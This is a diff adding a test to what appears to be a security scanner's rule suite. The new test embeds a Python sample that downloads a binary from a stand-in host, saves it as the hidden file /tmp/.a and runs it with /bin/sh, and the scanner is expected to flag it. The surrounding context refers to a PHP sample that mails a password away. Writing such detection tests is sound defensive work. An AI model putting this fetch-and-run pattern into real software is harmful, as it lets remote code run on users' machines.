@@ -340,3 +340,15 @@ def test_php_checked_password_mailed_to_a_fixed_address():
     assert rules("lib/auth.php", "php", src) == ["source.exfiltration"]
     # a login notice naming the user only is not the password sent away
     assert rules("lib/auth.php", "php", src.replace("$user . ':' . $pass", "$user . ' logged in'")) == []
+
+
+def test_python_download_written_through_an_opened_file_then_run():
+    src = ("import subprocess\nimport urllib.request\n\n\ndef http_bytes(url):\n"
+           "    with urllib.request.urlopen(url, timeout=20) as r:\n        return r.read()\n\n\n"
+           "def refresh():\n    blob = http_bytes('http://198.51.100.61/a.bin')\n"
+           "    with open('/tmp/.a', 'wb') as f:\n        f.write(blob)\n"
+           "    subprocess.Popen(['/bin/sh', '/tmp/.a'])\n")
+    assert rules("agent/plugins.py", "python", src) == ["source.eval-downloaded"]
+    honest = src.replace("    subprocess.Popen(['/bin/sh', '/tmp/.a'])\n",
+                         "    if verify_signature('/tmp/.a'):\n        subprocess.Popen(['/bin/sh', '/tmp/.a'])\n")
+    assert rules("agent/plugins.py", "python", honest) == []
